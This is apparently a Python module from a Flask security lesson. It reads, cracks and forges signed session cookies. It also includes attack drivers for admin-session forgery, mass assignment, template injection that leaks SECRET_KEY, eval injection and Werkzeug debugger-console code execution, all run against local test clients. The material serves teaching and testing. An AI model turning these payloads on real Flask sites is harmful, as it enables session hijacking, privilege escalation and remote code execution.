"""Securing Flask: reading, cracking and forging Flask session cookies, and the lesson's attack drivers.

Flask's default session is a cookie: JSON, compressed when that is shorter, base64, then
signed with HMAC-SHA1 by itsdangerous. Signed, not encrypted: anybody can read it; only the
holder of SECRET_KEY can write one the app accepts. These helpers do what an attacker's
tool (flask-unsign and friends) does, with the same itsdangerous calls Flask makes.
"""

from __future__ import annotations

import base64
import hashlib
import json
import zlib
from collections.abc import Iterable
from typing import Any

import flask
from flask.json.tag import TaggedJSONSerializer
from itsdangerous import BadSignature, URLSafeTimedSerializer

from seclab.attacks import AttackResult
from seclab.topics.flask.targets import TUTORIAL_DEFAULT_KEYS

SESSION_COOKIE = "session"


def session_serializer(secret_key: str) -> URLSafeTimedSerializer:
    """The serializer Flask's SecureCookieSessionInterface builds for ``secret_key``."""
    return URLSafeTimedSerializer(secret_key, salt="cookie-session", serializer=TaggedJSONSerializer(),
                                  signer_kwargs={"key_derivation": "hmac", "digest_method": hashlib.sha1})


def decode_cookie(cookie: str) -> Any:
    """The data inside a Flask session cookie, read WITHOUT the key (the signature is not checked)."""
    payload = cookie.split(".")[1] if cookie.startswith(".") else cookie.split(".")[0]
    try:
        raw = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
        if cookie.startswith("."):
            raw = zlib.decompress(raw)
        return json.loads(raw)
    except (ValueError, zlib.error) as error:  # bad base64, bad zlib, bad JSON
        raise ValueError(f"not a readable session cookie: {error}") from error


def forge_cookie(data: dict[str, Any], secret_key: str) -> str:
    """A session cookie holding ``data``, signed with ``secret_key``: exactly what Flask itself would send."""
    return session_serializer(secret_key).dumps(data)


def crack_key(cookie: str, candidates: Iterable[str] = TUTORIAL_DEFAULT_KEYS) -> str | None:
    """The candidate key that signed ``cookie``, or None: an offline guess, no request to the app."""
    for candidate in candidates:
        try:
            session_serializer(candidate).loads(cookie)
        except BadSignature:
            continue
        return candidate
    return None


def session_cookie(response: Any) -> str | None:
    """The value of the session cookie a test-client response sets, if it sets one."""
    for header in response.headers.getlist("Set-Cookie"):
        name, _, rest = header.partition("=")
        if name.strip() == SESSION_COOKIE:
            return rest.split(";", 1)[0]
    return None


def login(client: Any, username: str, password: str, https: bool = False) -> Any:
    """POST /login as JSON through a Flask test client."""
    base = "https://localhost" if https else "http://localhost"
    return client.post("/login", json={"username": username, "password": password}, base_url=base)


# --- the lesson's attacks ----------------------------------------------------------------------

def forge_admin_session(app: flask.Flask, guest_cookie: str, https: bool = False) -> AttackResult:
    """Crack the key of a guest's cookie offline, forge an admin session, open /admin."""
    key = crack_key(guest_cookie)
    if key is None:
        return AttackResult("forged admin cookie", False, "no tutorial default key signed this cookie")
    forged = forge_cookie({"user": "admin", "is_admin": True}, key)
    client = app.test_client()
    client.set_cookie(SESSION_COOKIE, forged, domain="localhost")
    reply = client.get("/admin", base_url="https://localhost" if https else "http://localhost")
    return AttackResult(forged, reply.status_code == 200,
                        f"key {key!r} cracked; GET /admin with the forged cookie: HTTP {reply.status_code}")


def replay_admin_cookie(app: flask.Flask, cookie: str, https: bool = False) -> AttackResult:
    """Open /admin with ``cookie`` as the session cookie."""
    client = app.test_client()
    client.set_cookie(SESSION_COOKIE, cookie, domain="localhost")
    reply = client.get("/admin", base_url="https://localhost" if https else "http://localhost")
    return AttackResult(cookie, reply.status_code == 200, f"GET /admin: HTTP {reply.status_code}")


def leftover_privilege(app: flask.Flask, passwords: dict[str, str], https: bool = False) -> AttackResult:
    """The shared-computer attack: admin logs in, then alice logs in in the same browser. Is alice an admin?"""
    client = app.test_client()
    login(client, "admin", passwords["admin"], https)
    login(client, "alice", passwords["alice"], https)
    reply = client.get("/admin", base_url="https://localhost" if https else "http://localhost")
    return AttackResult("admin, then alice, in one browser", reply.status_code == 200,
                        f"alice's GET /admin: HTTP {reply.status_code}")


def mass_assignment(app: flask.Flask, passwords: dict[str, str], https: bool = False) -> AttackResult:
    """alice sends a profile update with a field nobody offered her: ``is_admin``, and a name that is a list."""
    client = app.test_client()
    base = "https://localhost" if https else "http://localhost"
    login(client, "alice", passwords["alice"], https)
    body = {"display_name": ["not", "a", "string"], "bio": "hi", "is_admin": True, "user": "admin"}
    reply = client.post("/profile", json=body, base_url=base)
    stored = client.get("/profile", base_url=base).get_json(silent=True) or {}
    accepted = reply.status_code == 200 and "is_admin" in stored
    return AttackResult(json.dumps(body), accepted,
                        f"POST /profile: HTTP {reply.status_code}; stored profile now {stored}")


#: template code that a greeting renders when it is concatenated into the template
SSTI_PAYLOAD = "{{ config['SECRET_KEY'] }}"


def template_injection(app: flask.Flask, https: bool = False) -> AttackResult:
    """Send template code as a name; the attack succeeds when the page shows the app's SECRET_KEY."""
    reply = app.test_client().get("/hello", query_string={"name": SSTI_PAYLOAD},
                                  base_url="https://localhost" if https else "http://localhost")
    page = reply.get_data(as_text=True)
    leaked = str(app.config["SECRET_KEY"]) in page
    return AttackResult(SSTI_PAYLOAD, leaked, f"HTTP {reply.status_code}: {page[:120]}")


def eval_injection(app: flask.Flask, marker: str, https: bool = False) -> AttackResult:
    """Send Python instead of arithmetic; the attack succeeds when it wrote ``marker`` (a scratch file path)."""
    from pathlib import Path

    code = f"__import__('pathlib').Path({marker!r}).write_text('pwned')"
    reply = app.test_client().get("/calc", query_string={"expr": code},
                                  base_url="https://localhost" if https else "http://localhost")
    written = Path(marker).exists()
    return AttackResult(code, written, f"HTTP {reply.status_code}: {reply.get_data(as_text=True)[:120]}")


def debugger_console(wsgi_app: Any, marker: str, https: bool = False) -> AttackResult:
    """Crash a page, read the debugger's secret and a frame id from the traceback page, run code in that frame.

    The code writes ``marker`` (a scratch file path); the attack succeeds when the file exists.
    """
    import io
    import re
    from pathlib import Path

    from werkzeug.test import Client

    client = Client(wsgi_app)
    base = "https://localhost" if https else "http://localhost"
    quiet = {"wsgi.errors": io.StringIO()}  # the debugger also prints the traceback there
    page = client.get("/calc", query_string={"expr": "1/0"}, environ_overrides=quiet,
                      base_url=base).get_data(as_text=True)
    secret = re.search(r'SECRET = "([^"]+)"', page)
    frames = re.findall(r'<div class="frame" id="frame-(\d+)"', page)
    if secret is None or not frames:
        return AttackResult("(no debugger page)", False, f"the error page has no debugger: {page[:100]!r}")
    code = f"__import__('pathlib').Path({marker!r}).write_text('pwned')"
    reply = client.get("/calc", query_string={"__debugger__": "yes", "cmd": code, "frm": frames[-1],
                                              "s": secret.group(1)}, environ_overrides=quiet, base_url=base)
    return AttackResult(code, Path(marker).exists(),
                        f"traceback page with {len(frames)} frames and the console secret; "
                        f"console answered HTTP {reply.status_code}")
